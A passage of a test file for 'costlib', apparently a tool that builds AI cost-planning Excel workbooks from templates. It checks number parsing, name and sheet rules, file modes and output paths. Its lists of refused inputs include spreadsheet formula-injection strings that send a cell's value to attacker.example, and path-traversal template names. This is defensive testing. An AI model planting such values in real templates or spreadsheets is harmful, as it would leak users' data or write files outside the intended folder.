    ("name = 'x'\ntitle = 't'\naxis_values = [1]\nsheets = []\n[[inputs]]\nname = 'm'\nlabel = 'm'\ndefault = 1\n"
     "source = 's'\nunit = 'u'\nmaximum = 'nope'\n", "maximum must be a number or the name of a number input"),
    ("name = 'x'\ntitle = 't'\naxis_values = [1]\nsheets = []\n[[inputs]]\nname = 'm'\nlabel = 'm'\ndefault = 1\n"
     "source = 's'\nunit = 'u'\nplausible = 'high'\n", "plausible must be a number"),
]


@pytest.mark.parametrize("text, fragment", TEMPLATE_REFUSED, ids=[c[1][:30] for c in TEMPLATE_REFUSED])
def test_broken_user_templates(tmp_path, capsys, text, fragment):
    template = tmp_path / "mine.toml"
    template.write_text(text)
    refused(capsys, tmp_path, ["generate", str(template), "-o", str(tmp_path / "p.xlsx")], fragment)


def test_template_missing_or_not_utf8(tmp_path, capsys):
    refused(capsys, tmp_path, ["generate", str(tmp_path / "none.toml"), "-o", str(tmp_path / "p.xlsx")],
            "cannot read the template")
    (tmp_path / "latin.toml").write_bytes("name = 'é'\n".encode("cp1252"))
    refused(capsys, tmp_path, ["generate", str(tmp_path / "latin.toml"), "-o", str(tmp_path / "p.xlsx")],
            "latin.toml")


def test_an_unexpected_error_is_one_line_exit_1(tmp_path, capsys, monkeypatch):
    from costlib.workbook import writer

    def bug(*args, **kwargs):
        raise ZeroDivisionError("a bug")

    monkeypatch.setattr(writer, "build_workbook", bug)
    assert cli.main(["generate", "budget", "-o", str(tmp_path / "p.xlsx")]) == 1
    err = capsys.readouterr().err
    assert err.startswith("costlib: internal error (ZeroDivisionError: a bug)") and "report" in err
    assert err.count("\n") == 1 and "Traceback" not in err


# ------------------------------------------------------------------------------------------- as a user runs it


@pytest.mark.slow  # spawns interpreters
@pytest.mark.parametrize("args", [
    ["generate", "budget", "--set", "params=2,5"], ["generate", "budget", "--set", "model_name=a\x01"],
    ["generate", "budget", "-o", ""], ["generate", "nope.toml"], ["generate", "budget", "--config", "."],
])
def test_no_traceback_from_the_command(tmp_path, args):
    done = subprocess.run([sys.executable, "-m", "costlib", *args], capture_output=True, text=True, cwd=tmp_path)
    assert done.returncode == 2 and "Traceback" not in done.stdout + done.stderr, done.stderr
    assert list(tmp_path.iterdir()) == []


@pytest.mark.slow  # spawns an interpreter and interrupts it
def test_ctrl_c_from_the_shell(tmp_path):
    import signal
    import time

    csv = tmp_path / "runs.csv"
    csv.write_text("scenario,months\n" + "".join(f"s{i},600\n" for i in range(200)))
    proc = subprocess.Popen([sys.executable, "-m", "costlib", "generate", "budget", "--scenarios", str(csv), "-o",
                             str(tmp_path / "out")], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    time.sleep(3)
    proc.send_signal(signal.SIGINT)
    out, err = proc.communicate(timeout=60)
    assert proc.returncode == 130, err
    assert "Traceback" not in err and "costlib: interrupted;" in err


@pytest.mark.parametrize("call, fragment", [
    (lambda: costlib.breakeven(1e308, 3, 2.9999), "fixed_cost, price_per_unit and cost_per_unit make the result overflow"),
    (lambda: costlib.breakeven([1.0, 1e308], 3, 2.9999), "overflow (above 1.8e308): got 1e+308 / 0.0001 at position 1"),
    (lambda: costlib.months_to_breakeven(1e308, 1e-300), "fixed_cost and monthly_saving make the result overflow"),
])
def test_overflow_is_an_error_never_never(call, fragment):
    # inf reads as "never breaks even"; a quotient too large for a float must not
    with pytest.raises(costlib.OutOfRangeError) as raised:
        call()
    assert fragment in str(raised.value)


def test_no_break_even_is_still_inf():
    assert costlib.breakeven(1000, 0.3, 0.35) == math.inf and costlib.months_to_breakeven(5e4, 0) == math.inf
    assert costlib.utilization_breakeven(1e-10, 1e-320) == math.inf  # a ratio that overflows is above 1: never


# ===========================================================================================
# Where files go, names a spreadsheet reads as something else, values accepted and wrong, the API.

PLAN = Path(__file__).parent / "data" / "my-serving-plan.toml"
PLAN_TEXT = PLAN.read_text(encoding="utf-8")


def mutated(tmp_path: Path, old: str, new: str, count: int = 1, name: str = "mine.toml") -> Path:
    """The user's template of tests/data with ``old`` replaced by ``new`` (which must be there)."""
    assert PLAN_TEXT.count(old) >= count, old
    path = tmp_path / name
    path.write_text(PLAN_TEXT.replace(old, new, count), encoding="utf-8")
    return path


def both_commands_refuse(capsys, tmp_path, template: Path, *fragments):
    """``costlib templates X.toml`` refuses what ``costlib generate X.toml`` refuses, with the same message."""
    err_t = refused(capsys, tmp_path, ["templates", str(template)], *fragments)
    err_g = refused(capsys, tmp_path, ["generate", str(template), "-o", str(tmp_path / "p.xlsx")], *fragments)
    assert err_t == err_g
    assert not (tmp_path / "p.xlsx").exists()


# ------------------------------------------------------------------------ numbers read two ways, 1,000x apart


THOUSANDFOLD = [  # (typed, the grouping reading, the decimal reading): both offered, nothing guessed
    ("50.000", "50000", "50"), ("2,500", "2500", "2.5"), ("1,000", "1000", "1"), ("$1.250", "$1250", "$1.25"),
    ("1.234", "1234", "1.2340"), ("2,500k", "2500k", "2.5k"), ("999,999", "999999", "999.9990"),
    ("-7.500", "-7500", "-7.5"), ("12.000 USD", "12000 USD", "12 USD"), ("100,001", "100001", "100.0010"),
]


@pytest.mark.parametrize("typed, grouped, decimal", THOUSANDFOLD)
def test_a_separator_reading_1000_times_apart_is_refused_with_both(typed, grouped, decimal):
    mark = "comma" if "," in typed else "point"
    with pytest.raises(InputError) as raised:
        parse_number("finetune_cost", typed)
    assert str(raised.value) == (f"finetune_cost must be a number, got text {typed!r}: it reads as {grouped} (the "
                                 f"{mark} grouping thousands) or {decimal} (a decimal {mark}), 1,000 times apart; "
                                 f"type {grouped} or {decimal}")
    assert raised.value.argument == "finetune_cost"


UNAMBIGUOUS = [  # (typed, read as): a second group, a decimal part, an exponent, a leading 0 or four digits
    ("1,000,000", 1e6), ("1,000.5", 1000.5), ("1.5e3", 1500.0), ("0.500", 0.5), ("1.2345", 1.2345),
    ("1 000", 1000.0), ("50.0000", 50.0), ("2.500e0", 2.5), ("12.34", 12.34), ("$1,250.75", 1250.75),
]


@pytest.mark.parametrize("typed, expected", UNAMBIGUOUS)
def test_separators_that_read_one_way_are_taken(typed, expected):
    assert parse_number("x", typed) == (expected, False)


HINTS = [  # (typed, the exact hint after "x must be a number, got text '...': ")
    ("10 000,5", "it looks like a European number (spaces grouping thousands, a decimal comma); type 10000.5"),
    ("1 000,50", "it looks like a European number (spaces grouping thousands, a decimal comma); type 1000.50"),
    ("7,0B", "the comma is ambiguous (7.0B or 70B?); type 7.0B, or 70B without a comma"),
    ("$2,5", "the comma is ambiguous ($2.5 or $25?); type $2.5, or $25 without a comma"),
    ("2,5%", "the comma is ambiguous (2.5% or 25%?); type 2.5%, or 25% without a comma"),
    ("0,6", "a decimal comma? type 0.6 (a decimal point)"),
    ("€2", "type the amount without the currency sign (2): money inputs are figures in the plan's currency, its "
           "currency input (USD unless set); convert it first if the plan is in another currency"),
    ("2 €", "type the amount without the currency sign (2): money inputs are figures in the plan's currency, its "
            "currency input (USD unless set); convert it first if the plan is in another currency"),
]


@pytest.mark.parametrize("typed, hint", HINTS)
def test_hints_point_the_right_way(typed, hint):
    with pytest.raises(InputError) as raised:
        parse_number("x", typed)
    assert str(raised.value) == f"x must be a number, got text {typed!r}: {hint}"


@pytest.mark.parametrize("typed, expected", [("2500!", (2500.0, True)), ("60%!", (0.6, True)), ("70B!", (70e9, True)),
                                             ("$3 !", (3.0, True)), ("1e300!", (1e300, True)), ("60%", (0.6, True)),
                                             ("2500", (2500.0, False))])
def test_an_override_says_the_value_is_meant(typed, expected):
    assert parse_number("x", typed) == expected


@pytest.mark.parametrize("x, shown", [
    (1.5e17, "150e15"), (1e300, "1e300"), (1e16, "10e15"), (-2.5e-7, "-250e-9"), (1e308, "100e306"),
    (123456789012345678.0, "123.45678901234568e15"), (36.0, "36"), (36.000000001, "36.000000001"),
    (9999999999999998.0, "9999999999999998"), (0.0, "0"), (1e-6, "1e-6"), (0.5, "0.5"), (1e-4, "0.0001"),
    (5e-5, "50e-6"),
])
def test_big_numbers_show_in_engineering_form(x, shown):
    from costlib.plan import show_number

    assert show_number(x) == shown
    assert float(shown) == x  # every digit kept: the text reads back as the same float


# ------------------------------------------------------------------------ plausible ranges, stated and enforced


PLAUSIBLE_REFUSED = [  # (--set, the exact message after "costlib: error: ")
    ("train_price_per_gpu_hour=2500", "train_price_per_gpu_hour is 2500 USD/GPU-h, above the plausible 0 to 100 "
     "USD/GPU-h (rental rates run about $1 to $12 per GPU-hour); type 2500! if you mean it"),
    ("params=70", "params is 70 parameters, below the plausible 1e6 to 100e12 parameters (published models have "
     "100 M to 2 T parameters); type 70! if you mean it"),
    ("monthly_growth=1", "monthly_growth is fraction/month: 1 would be 100%, beyond the plausible 0 to 0.5; type 1% "
     "for 1 %, or 100% if you mean it"),
    ("monthly_tokens=1e300", "monthly_tokens is 1e300 tokens/month, above the plausible 0 to 100e15 tokens/month (the "
     "largest services serve about 1e15 tokens a month); type 1e300! if you mean it"),
    ("api_price_per_m_tokens=3000", "api_price_per_m_tokens is 3000 USD/Mtok, above the plausible 0 to 1000 USD/Mtok "
     "(API list prices run about $0.02 to $600 per 1 M tokens); type 3000! if you mean it"),
    ("electricity_price_per_kwh=100", "electricity_price_per_kwh is 100 USD/kWh, above the plausible 0 to 2 USD/kWh "
     "(electricity costs about $0.03 to $0.50 per kWh); type 100! if you mean it"),
    ("gpu_price_decline=0.9", None),  # share_below_one and fraction/year: 0.9 is within 0 to 1, taken
    ("discount_rate=5", "discount_rate is fraction/year: 5 would be 500%, beyond the plausible 0 to 1 (100 %); type "
     "5% for 5 %, or 500% if you mean it"),
]


@pytest.mark.parametrize("assignment, message", PLAUSIBLE_REFUSED, ids=[c[0] for c in PLAUSIBLE_REFUSED])
def test_values_outside_the_plausible_range_need_an_override(tmp_path, capsys, assignment, message):
    out = tmp_path / "p.xlsx"
    if message is None:
        assert cli.main(["generate", "budget", "-o", str(out), "--set", assignment]) == 0
        assert inputs_sheet_value(out, assignment.split("=")[0]) == float(assignment.split("=")[1])
        return
    err = refused(capsys, tmp_path, ["generate", "budget", "-o", str(out), "--set", assignment])
    assert err == f"costlib: error: {message}\n"


PLAUSIBLE_TAKEN = [  # (--set with an override, input, value in the workbook)
    ("train_price_per_gpu_hour=2500!", "train_price_per_gpu_hour", 2500.0), ("params=70!", "params", 70.0),
    ("monthly_growth=100%", "monthly_growth", 1.0), ("monthly_growth=1!", "monthly_growth", 1.0),
    ("electricity_price_per_kwh=100!", "electricity_price_per_kwh", 100.0),
    ("discount_rate=500%", "discount_rate", 5.0),
]


@pytest.mark.parametrize("assignment, name, expected", PLAUSIBLE_TAKEN, ids=[c[0] for c in PLAUSIBLE_TAKEN])
def test_an_override_takes_the_value_into_the_workbook(tmp_path, assignment, name, expected):
    out = tmp_path / "p.xlsx"
    assert cli.main(["generate", "budget", "-o", str(out), "--set", assignment]) == 0
    assert inputs_sheet_value(out, name) == expected


def test_the_plausible_range_is_stated_in_the_template_listing(capsys):
    assert cli.main(["templates", "budget"]) == 0
    out = capsys.readouterr().out
    line = next(line for line in out.splitlines() if line.strip().startswith("train_price_per_gpu_hour"))
    # the rule, then (an uncertain input) its range and downside end: budget.toml's range = [1.5, 3.0]
    assert "; >= 0; plausible 0 to 100 (outside it, type the value with ! to mean it); range 1.5 to 3, downside at " \
           "its high" in line
    line = next(line for line in out.splitlines() if line.strip().startswith("params "))
    assert "default 70e9 " in line and "plausible 1e6 to 100e12" in line  # engineering form, not 70000000000


def test_every_packaged_default_and_range_lies_in_its_plausible_range():
    from costlib.plan import template_names
    from costlib.plan.plausible import outside

    for name in template_names():
        for i in load_template(name).inputs:
            for v in (i.default, *(i.range or ())):
                assert not (i.type in ("number", "integer") and outside(i, v)), (name, i.name, v)


# ------------------------------------------------------------------------ names a spreadsheet reads otherwise


BAD_NAMES = [  # (a name given to the item breakeven_m_tokens, fragment of the message)
    ("TRUE", "reads it as the boolean TRUE"), ("false", "reads it as the boolean FALSE"),
    ("A1", "cell reference in A1 style (within the grid's edge"), ("a1", "cell reference in A1 style"),
    ("XFD1048576", "A1 style (within the grid's edge"), ("XFD1048577", "A1 style (beyond the grid's edge"),
    ("ZZZ1", "A1 style (beyond"), ("gpu1", "A1 style (within"), ("R1C1", "R1C1 style"), ("RC", "R1C1 style"),
    ("R", "R1C1 style"), ("c", "R1C1 style"), ("r2c3", "R1C1 style"), ("SUM", "spreadsheet function"),
    ("WEBSERVICE", "spreadsheet function"), ("hyperlink", "spreadsheet function"), ("xlookup", "spreadsheet function"),
    ('x)+WEBSERVICE("http://attacker.example/?"&Inputs!B6)+SUM(x', "must be an identifier"),
    ('1+HYPERLINK("http://attacker.example")', "must be an identifier"), ("with space", "must be an identifier"),
    ("coût", "must be an identifier"), ("9lives", "must be an identifier"), ("if", "reserved word"),
    ("None", "reserved word"), ("checks_ok", "is reserved"), ("catalogue_peak", "is reserved"),
    ("n" * 256, "at most 255 characters"), ("Own_cost_per_m_tokens", "differ only in case"),
    ("reservation_cost", "is used twice (input and item)"),
]


@pytest.mark.parametrize("bad, fragment", BAD_NAMES, ids=[b[0][:30] for b in BAD_NAMES])
def test_a_name_a_spreadsheet_would_misread_is_refused_by_generate_and_templates(tmp_path, capsys, bad, fragment):
    import json

    template = mutated(tmp_path, '"breakeven_m_tokens"', json.dumps(bad), count=2)  # the item and key_outputs
    both_commands_refuse(capsys, tmp_path, template, "mine.toml", fragment)


@pytest.mark.parametrize("old, bad, fragment", [
    ('name = "reservation_cost"', 'name = "TRUE"', "input name 'TRUE'"),
    ('name = "api_memo"', 'name = "B2"', "row name 'B2'"),
    ('axis = "month"', 'axis = "A1"', "axis name 'A1'"),
    ('axis = "month"', 'axis = "true"', "axis name 'true'"),
])
def test_inputs_rows_and_the_axis_are_checked_too(tmp_path, capsys, old, bad, fragment):
    both_commands_refuse(capsys, tmp_path, mutated(tmp_path, old, bad), fragment)


@pytest.mark.parametrize("name", ["tier2", "month_end2", "xfd_1", "r1c1_rate", "sum_of_costs", "TRUE_cost"])
def test_names_that_only_look_alike_are_taken(tmp_path, name):
    from openpyxl import load_workbook

    template = mutated(tmp_path, 'name = "decision"', f'name = "{name}"')
    assert cli.main(["generate", str(template), "-o", str(tmp_path / "p.xlsx")]) == 0
    assert name in load_workbook(tmp_path / "p.xlsx").defined_names


BAD_SHEETS = [  # (a name for the sheet "Plan", fragment)
    ("P" * 32, "at most 31 characters (Excel's limit), got 32"), ("a[b]", "must not hold any of"),
    ("a:b", "must not hold any of"), ("a?b", "must not hold any of"), ("a*b", "must not hold any of"),
    ("a/b", "must not hold any of"), ("a\\\\b", "must not hold any of"), ("'quoted'", "apostrophe"),
    ("History", "Excel reserves it"), ("history", "Excel reserves it"), ("Inputs", "is reserved"),
    ("checks", "is reserved"), ("summary", "is used twice"), ("", "1 to 31 characters"), ("   ", "1 to 31 characters"),
    ("Annual", "is reserved"),
]


@pytest.mark.parametrize("bad, fragment", BAD_SHEETS, ids=[repr(b[0][:12]) for b in BAD_SHEETS])
def test_sheet_names_follow_excels_rules(tmp_path, capsys, bad, fragment):
    template = mutated(tmp_path, 'name = "Plan"', f'name = "{bad}"')
    both_commands_refuse(capsys, tmp_path, template, "sheet name", fragment)


def test_a_31_character_sheet_name_is_taken(tmp_path):
    from openpyxl import load_workbook

    template = mutated(tmp_path, 'name = "Plan"', f'name = "{"P" * 31}"')
    assert cli.main(["generate", str(template), "-o", str(tmp_path / "p.xlsx")]) == 0
    assert "P" * 31 in load_workbook(tmp_path / "p.xlsx", read_only=True).sheetnames


# ------------------------------------------------------------------------ where files go


BAD_STEMS = [  # (the template's name, fragment): its name is the stem of the files it writes
    ("../../evil", "folder separator"), ("/var/reports/ABS", "folder separator"), ("a/b", "folder separator"),
    ("a\\\\b", "folder separator"), ("C:evil", "folder separator"), ("~root", "~"), ("..", "'..'"),
    ("x..y", "'..'"), ("CON", "reserved device name"), ("nul", "reserved device name"),
    ("com1.report", "reserved device name"), ("x.", "end with a dot"), (" x", "space"), ("a|b", "'|'"),
    ("a\\u0001b", "'\\x01'"), ("n" * 101, "at most 100 characters"),
]


@pytest.mark.parametrize("bad, fragment", BAD_STEMS, ids=[repr(b[0][:12]) for b in BAD_STEMS])
def test_a_template_name_never_chooses_a_folder(tmp_path, capsys, monkeypatch, bad, fragment):
    work = tmp_path / "a" / "b"
    work.mkdir(parents=True)
    monkeypatch.chdir(work)
    template = mutated(work, 'name = "my-serving-plan"', f'name = "{bad}"')
    before = snapshot(tmp_path)
    for argv in (["generate", str(template)], ["templates", str(template)]):
        code = cli.main(argv)
        err = capsys.readouterr().err
        assert code == 2 and fragment in err and "name (the stem of the files it writes)" in err, err
    csv = work / "runs.csv"
    csv.write_text("scenario,monthly_tokens\nx,1e9\n")
    assert cli.main(["generate", str(template), "--scenarios", str(csv)]) == 2
    capsys.readouterr()
    csv.unlink()
    assert snapshot(tmp_path) == before  # nothing written, here, above or anywhere under tmp
    assert not Path("/var/reports/ABS-comparison.xlsx").exists()


def test_the_default_output_is_the_safe_stem_under_workbooks(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    template = mutated(tmp_path, 'name = "my-serving-plan"', 'name = "Q3 plan (v2)"')
    assert cli.main(["generate", str(template)]) == 0
    assert sorted(p.name for p in (tmp_path / "workbooks").iterdir()) == ["Q3 plan (v2).xlsx"]


def _mode(path: Path) -> int:
    return path.stat().st_mode & 0o777


@pytest.mark.parametrize("mode", [0o600, 0o640, 0o444 | 0o200])
def test_regenerating_keeps_the_files_mode(tmp_path, mode):
    out = tmp_path / "p.xlsx"
    assert generate("budget", None, out) == "written"
    out.chmod(mode)
    assert generate("budget", {"months": 12}, out) == "replaced"
    assert _mode(out) == mode and is_unedited(out)


@pytest.mark.parametrize("umask, expected", [(0o077, 0o600), (0o022, 0o644), (0o027, 0o640), (0o002, 0o664)])
def test_a_new_file_follows_the_umask(tmp_path, umask, expected):
    old = os.umask(umask)
    try:
        out = tmp_path / "p.xlsx"
        assert generate("budget", None, out) == "written"
        frozen = tmp_path / "f.xlsx"
        assert cli.main(["freeze", str(out), "-o", str(frozen)]) == 0
    finally:
        os.umask(old)
    assert (_mode(out), _mode(frozen)) == (expected, expected)


def test_every_writer_keeps_a_private_file_private(tmp_path, capsys):
    out = tmp_path / "out"
    csv = tmp_path / "runs.csv"
    csv.write_text("scenario,months\na,12\n")
    assert cli.main(["generate", "budget", "--scenarios", str(csv), "-o", str(out)]) == 0
    for p in out.iterdir():
        p.chmod(0o600)
    assert cli.main(["generate", "budget", "--scenarios", str(csv), "-o", str(out), "--set", "params=8e9"]) == 0
    ranges = tmp_path / "ranges.csv"
    ranges.write_text("old")
    ranges.chmod(0o600)
    assert cli.main(["simulate", "budget", "--range", "mfu=30%:40%:50%", "-n", "100", "--csv", str(ranges),
                     "--force"]) == 0
    frozen = tmp_path / "f.xlsx"
    frozen.write_bytes(b"old")
    frozen.chmod(0o600)
    assert cli.main(["freeze", str(out / "budget-a.xlsx"), "-o", str(frozen), "--force"]) == 0
    capsys.readouterr()
    assert {p.name: _mode(p) for p in [*out.iterdir(), ranges, frozen]} == {
        "budget-a.xlsx": 0o600, "budget-comparison.xlsx": 0o600, "ranges.csv": 0o600, "f.xlsx": 0o600}
    assert ranges.read_text().startswith("output,unit,P10,P50,P90\n") and frozen.read_bytes()[:2] == b"PK"


@pytest.mark.parametrize("command", ["freeze", "inline"])
def test_messages_name_the_users_path_never_a_temporary_file(tmp_path, capsys, command):
    model = tmp_path / "b.xlsx"
    assert generate("budget", None, model) == "written"
    (tmp_path / "odir").mkdir()
    err = refused(capsys, tmp_path, [command, str(model), "-o", str(tmp_path / "odir")],
                  f"-o {tmp_path / 'odir'}: is a folder")
    assert ".odir." not in err and ".tmp" not in err


def test_a_failed_replace_names_the_target_and_leaves_nothing(tmp_path, monkeypatch):
    from costlib import _atomic
    from costlib.workbook.files import OutputError

    def busy(src, dst):
        raise OSError(16, "Device or resource busy", str(src))

    monkeypatch.setattr(_atomic.os, "replace", busy)
    with pytest.raises(OutputError) as raised:
        write_workbook(render("budget"), tmp_path / "p.xlsx")
    assert str(raised.value) == f"cannot write {tmp_path / 'p.xlsx'}: Device or resource busy"
    assert list(tmp_path.iterdir()) == []


# ------------------------------------------------------------------------ --scenarios: one by one, with progress


def test_each_scenario_workbook_is_on_disk_before_the_next_is_rendered(tmp_path, capsys, monkeypatch):
    from costlib.workbook import files, writer

    seen = []
    real = writer.build_workbook

    def watching(t, values, schedule=None):
        seen.append(sorted(p.name for p in (tmp_path / "out").glob("*.xlsx")) if (tmp_path / "out").exists() else [])
        return real(t, values, schedule=schedule)

    monkeypatch.setattr(writer, "build_workbook", watching)
    monkeypatch.setattr(cli, "LARGE_BATCH", 1)  # show progress though stderr is no terminal
    code, out = batch(tmp_path, b"scenario,months\na,12\nb,13\nc,14\n")
    err = capsys.readouterr().err
    assert code == 0
    assert seen == [[], ["budget-a.xlsx"], ["budget-a.xlsx", "budget-b.xlsx"]]
    assert "budget workbooks" in err and "4/4" in err


def test_a_csv_error_names_its_line(tmp_path, capsys):
    csv = tmp_path / "runs.csv"
    csv.write_bytes(b'scenario,months\na,12\nb,13\n"c,14\n')
    refused(capsys, tmp_path, ["generate", "budget", "--scenarios", str(csv), "-o", str(tmp_path / "out")],
            "is not a readable CSV file: line 4: unexpected end of data")  # the quote opened on line 4


def test_semicolon_files_keep_their_decimal_comma(tmp_path):
    code, out = batch(tmp_path, b"scenario;train_price_per_gpu_hour\nx;2,500\n")
    assert code == 0 and inputs_sheet_value(out / "budget-x.xlsx", "train_price_per_gpu_hour") == 2.5


# ------------------------------------------------------------------------ timelines bounded by the grid


def test_a_timeline_past_column_xfd_is_refused(tmp_path, capsys):
    template = mutated(tmp_path, "maximum = 600\n", "")
    refused(capsys, tmp_path, ["generate", str(template), "-o", str(tmp_path / "p.xlsx"), "--set", "months=20000"],
            "months must be <= 16,382 (a timeline runs from column C to the grid's last column, XFD), got 20000")
    t = load_template(str(template))
    flat = {"monthly_growth": 0}  # no growth: 16,382 months of it stay finite
    assert resolve_inputs(t, {"months": 16_382, **flat})["months"] == 16_382  # C + 16,381 columns: XFD exactly
    with pytest.raises(InputError, match="months must be <= 16,382"):
        resolve_inputs(t, {"months": 16_383, **flat})


def test_the_limit_is_the_writers_grid():
    from costlib.plan.inputs import TIMELINE_LIMIT
    from costlib.workbook.writer import FIRST_COL

    assert FIRST_COL - 1 + TIMELINE_LIMIT == 16_384  # the last month sits in column XFD, Excel's last


def test_axis_values_beyond_the_grid_are_refused(tmp_path, capsys):
    template = mutated(tmp_path, 'axis_length = "months"', "axis_values = [" + ",".join(["1"] * 16_383) + "]")
    both_commands_refuse(capsys, tmp_path, template, "axis_values must hold 1 to 16382 values", "got 16383")


# ------------------------------------------------------------------------ files with a byte-order mark


def test_a_template_with_a_bom_is_read(tmp_path):
    template = tmp_path / "bom.toml"
    template.write_bytes(b"\xef\xbb\xbf" + PLAN_TEXT.encode("utf-8"))
    out = tmp_path / "p.xlsx"
    assert cli.main(["generate", str(template), "-o", str(out)]) == 0
    assert inputs_sheet_value(out, "reservation_cost") == 250000


def test_a_template_not_in_utf8_names_the_byte(tmp_path, capsys):
    template = tmp_path / "latin.toml"
    template.write_bytes(PLAN_TEXT.replace("Up-front", "Avance é").encode("cp1252"))
    refused(capsys, tmp_path, ["templates", str(template)], "latin.toml: it is not UTF-8 text (byte 0xe9")


# ------------------------------------------------------------------------ a user's catalogue


def _catalogue(tmp_path: Path, edit=None, bom: bool = False) -> Path:
    import csv as csvmod

    from costlib import catalogue

    with open(catalogue.load("accelerators").path, newline="", encoding="utf-8") as handle:
        rows = list(csvmod.DictReader(handle))
    rows.append({**rows[0], "name": "MyGPU", "aliases": "My GPU 1", "peak_tflops_bf16": "500"})
    if edit:
        edit(rows)
    path = tmp_path / "accelerators_2027-01.csv"
    buf = io.StringIO()
    writer = csvmod.DictWriter(buf, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    path.write_bytes((b"\xef\xbb\xbf" if bom else b"") + buf.getvalue().encode("utf-8"))
    return path


def _set(column, value, name="MyGPU"):
    def edit(rows):
        next(r for r in rows if r["name"] == name)[column] = value
    return edit


CATALOGUE_REFUSED = [  # (edit, the exact message after the file's path)
    (_set("peak_tflops_bf16", "-5"), "line 11: peak_tflops_bf16 must be a finite number > 0, got '-5'"),
    (_set("peak_tflops_bf16", "nan"), "line 11: peak_tflops_bf16 must be a finite number > 0, got 'nan'"),
    (_set("peak_tflops_bf16", "inf"), "line 11: peak_tflops_bf16 must be a finite number > 0, got 'inf'"),
    (_set("peak_tflops_bf16", "0"), "line 11: peak_tflops_bf16 must be a finite number > 0, got '0'"),
    (_set("hbm_gb", "-80"), "line 11: hbm_gb must be a finite number > 0, got '-80'"),
    (_set("board_power_w", "1e400"), "line 11: board_power_w must be a finite number > 0, got '1e400'"),
    (_set("peak_tflops_fp8", "fast"), "line 11: peak_tflops_fp8 must be a number, got 'fast'"),
    (_set("aliases", "H100"), "line 11: the alias 'H100' is the name of line 2 ('H100'); an alias must never shadow "
                              "another row's name"),
    (_set("aliases", "h-100"), "line 11: the alias 'h-100' is the name of line 2 ('H100')"),
    (_set("name", "h100"), "line 11: name 'h100' is the name of line 2 ('H100'; names are compared without regard to "
                           "case, spaces and hyphens): one of them could never be found"),
    (lambda rows: rows.append({**rows[-1], "name": "mygpu", "aliases": ""}),
     "line 12: name 'mygpu' is the name of line 11 ('MyGPU'"),
    (lambda rows: rows.append({**rows[-1], "name": "OtherGPU", "aliases": "my gpu 1"}),
     "line 12: the alias 'my gpu 1' is an alias of line 11 too ('My GPU 1'); each alias finds one row"),
    (_set("name", " "), "line 11: name must name the row, got an empty cell"),
]


@pytest.mark.parametrize("edit, message", CATALOGUE_REFUSED, ids=[c[1][9:50] for c in CATALOGUE_REFUSED])
def test_catalogue_rows_are_validated_like_inputs(tmp_path, edit, message):
    from costlib import catalogue
    from costlib.errors import CatalogueError

    path = _catalogue(tmp_path, edit)
    with pytest.raises(CatalogueError) as raised:
        with catalogue.use("accelerators", path):
            costlib.train_cost(70e9, 15e12, 2.0, gpu="MyGPU")
    assert str(raised.value).startswith(f"{path} {message}")


@pytest.mark.parametrize("bom", [False, True])
def test_a_valid_user_catalogue_prices_its_own_gpu(tmp_path, bom):
    from costlib import catalogue

    with catalogue.use("accelerators", _catalogue(tmp_path, bom=bom)):
        cost = costlib.train_cost(70e9, 15e12, 2.0, gpu="my gpu 1", mfu=0.4)
    assert cost == pytest.approx(6 * 70e9 * 15e12 / (500e12 * 0.4) / 3600 * 2.0, rel=1e-12)  # 6ND / (peak MFU) [h] x $2


# ------------------------------------------------------------------------ costlib.scenarios


SCENARIOS_API_REFUSED = [  # (columns, keywords, the exact message)
    ({"MFU": [0.2]}, {}, "the column 'MFU' is not an argument of train_cost; closest: mfu; rename it, or pass "
                         "frame[[...]] with only the columns to use"),
    ({"mfu ": [0.2]}, {}, "the column 'mfu ' is not an argument of train_cost; closest: mfu"),
    ({"price": [2.0]}, {}, "the column 'price' is not an argument of train_cost; arguments are params, tokens, "
                           "price_per_gpu_hour, gpu, mfu, precision, flops_per_param_token"),
    ({}, {"mfu_": 0.2}, "'mfu_' is not an argument of train_cost; closest: mfu"),
    ({}, {"Gpu": "H100"}, "'Gpu' is not an argument of train_cost; closest: gpu"),
    ({"mfu": [0.2]}, {"mfu": 0.3}, "mfu is both a column and a keyword; drop one (the column sets it per scenario)"),
]


@pytest.mark.parametrize("columns, keywords, message", SCENARIOS_API_REFUSED,
                         ids=[c[2][:30] for c in SCENARIOS_API_REFUSED])
def test_scenarios_refuse_unknown_columns_and_keywords(columns, keywords, message):
    import pandas as pd

    frame = pd.DataFrame({"params": [7e9], "tokens": [2e12], "price_per_gpu_hour": [2.0], **columns})
    with pytest.raises(InputError) as raised:
        costlib.scenarios(frame, costlib.train_cost, **keywords)
    assert str(raised.value).startswith(message)


def test_scenarios_still_compute_with_known_names():
    import pandas as pd

    frame = pd.DataFrame({"params": [7e9], "tokens": [2e12], "price_per_gpu_hour": [2.0], "mfu": [0.5]})
    out = costlib.scenarios(frame, costlib.train_flops, costlib.train_cost)
    assert out["train_flops"].tolist() == [6 * 7e9 * 2e12]  # 6ND [Kaplan2020]
    assert out["train_cost"].iloc[0] == costlib.train_cost(7e9, 2e12, 2.0, mfu=0.5)


# ------------------------------------------------------------------------ the Python API


API_ARRAYS_REFUSED = [  # (call, error class, exact message)
    (lambda: costlib.train_cost(1e200, 1e200, 2.0), costlib.OutOfRangeError,
     "train_cost: the arguments make the result overflow (beyond 1.8e308, the largest number Python and Excel hold): "
     "params = 1e+200, tokens = 1e+200, price_per_gpu_hour = 2, mfu = 0.4, flops_per_param_token = 6; use smaller "
     "values"),
    (lambda: costlib.train_cost(10 ** 400, 15e12, 2.0), costlib.OutOfRangeError,
     "params must be a finite number (at most 1.8e308), got one of 401 digits"),
    (lambda: costlib.train_cost([1e9, 10 ** 400], 15e12, 2.0), costlib.OutOfRangeError,
     "params must be a finite number (at most 1.8e308), got one of 401 digits at position 1"),
    (lambda: costlib.query_cost_quantiles([], [], 3.0, 15.0), costlib.InputTypeError,
     "input_tokens must hold at least one number, got an empty list"),
    (lambda: costlib.train_cost(np.array([]), 15e12, 2.0), costlib.InputTypeError,
     "params must hold at least one number, got an empty ndarray"),
    (lambda: costlib.train_cost(np.array([1, 2], dtype="timedelta64[D]"), 15e12, 2.0), costlib.InputTypeError,
     "params must hold numbers, got a timedelta64[D] array (durations or dates); convert them to a number of a unit "
     "first, e.g. days / np.timedelta64(1, 'D')"),
